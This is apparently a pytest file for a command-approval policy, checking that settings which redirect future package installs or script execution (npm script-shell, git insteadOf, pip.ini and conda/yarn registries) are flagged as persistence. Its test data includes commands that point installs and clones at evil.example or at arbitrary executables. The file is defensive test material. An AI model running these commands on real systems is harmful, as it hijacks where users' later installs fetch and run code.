"""A setting that changes where later installs fetch code from, or what runs them, is persistence (S-RULE-186).

Every ask below passed before: `npm config set script-shell` names the program every package script runs through,
`url.<base>.insteadOf` sends every later clone of an address to another host, and a package manager's settings file
written directly (`pip.ini`) sets the index S-RULE-166 refuses on the command line.
"""

from __future__ import annotations

import pytest

from tests._requirements import requirement
from tests.policy.verdicts import ps, verdict

ASK = ("persistence-autostart", "ask")


@requirement("S-RULE-186")
@pytest.mark.parametrize(
    "command",
    [
        r"npm config set script-shell C:\t\x.exe",
        r"npm set script-shell=C:\t\x.exe",
        r'npm config set node-options "--require C:\t\x.js"',
        r"npm config set init-module C:\t\init.js",
        r"yarn config set yarnPath C:\t\x.js",
        r"pnpm config set script-shell C:\t\x.exe",
        "git config --global url.https://evil.example/.insteadOf https://github.com/",
        "git config --global url.https://evil.example/.pushInsteadOf git@github.com:",
        "git config --global url.https://mirror.corp.example/github/.insteadOf https://github.com/",
        "git -c url.https://evil.example/.insteadOf=https://github.com/ clone https://github.com/a/b",
        r'Set-Content "$env:APPDATA\pip\pip.ini" "[global]`nindex-url = https://evil.example/simple"',
        r"Set-Content C:\Users\me\.condarc 'channels: [https://evil.example/conda]'",
        r"Add-Content ~\.cargo\config.toml '[source.crates-io]'",
        r"Copy-Item C:\t\pip.ini C:\ProgramData\pip\pip.ini",
        r"Set-Content ~\.yarnrc.yml 'npmRegistryServer: https://evil.example'",
    ],
)
def test_a_setting_for_later_installs_asks(command: str) -> None:
    """S-RULE-186: what runs, or where code comes from, at every later install or script."""
    assert ps(command) == ASK


@requirement("S-RULE-186")
def test_a_package_settings_file_written_by_the_filesystem_tool_asks() -> None:
    """S-RULE-186: the place is judged whatever tool writes it."""
    path = r"C:\Users\me\AppData\Roaming\pip\pip.ini"
    assert verdict("FileSystem", mode="write", path=path, content="[global]") == ASK


@requirement("S-RULE-186")
@pytest.mark.parametrize(
    "command",
    [
        "npm config set fund false",
        "npm config get script-shell",
        "npm set audit=false",
        'git config --global url."git@github.com:".insteadOf "https://github.com/"',
        "git config --global url.ssh://git@github.com/.insteadOf https://github.com/",
        "git config --global user.name Me",
        r'Get-Content "$env:APPDATA\pip\pip.ini"',
        r"Set-Content C:\src\app\pip.conf '[global]'",
    ],
)
def test_other_settings_same_host_redirects_and_reads_stay_ordinary(command: str) -> None:
    """S-RULE-186: only a program, code or another host for later installs asks."""
    assert ps(command) is None
